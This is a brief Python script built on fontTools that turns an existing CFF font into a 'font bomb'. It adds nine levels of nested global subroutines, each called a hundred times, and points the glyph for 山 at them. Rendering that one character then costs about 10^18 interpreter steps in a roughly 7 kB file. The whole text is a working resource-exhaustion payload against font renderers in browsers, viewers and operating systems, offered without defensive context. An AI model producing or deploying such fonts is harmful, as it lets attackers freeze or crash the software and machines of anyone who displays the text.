# Makes bomb.otf: the character 山 calls a subroutine a hundred times, which
# calls the next a hundred times, nine deep: 10^18 steps in 7 kB.
import sys
from fontTools.ttLib import TTFont
from fontTools.misc.psCharStrings import T2CharString
from fontTools.cffLib import SubrsIndex

font = TTFont(sys.argv[1], recalcTimestamp=False, recalcBBoxes=False)
cff = font["CFF "].cff
top = cff.topDictIndex[0]
subrs = top.GlobalSubrs
for level in range(9):
    calls = [] if level == 8 else [level + 1 - 107, "callgsubr"] * 100
    s = T2CharString(program=calls + ["return"])
    s.compile()
    subrs.append(s)
name = font.getBestCmap()[ord("山")]
old = top.CharStrings[name]
s = T2CharString(program=[0, "hmoveto"] + [-107, "callgsubr"] * 100 + ["endchar"], private=old.private, globalSubrs=subrs)
s.compile()
old.program, old.bytecode = None, s.bytecode
font.save(sys.argv[2])
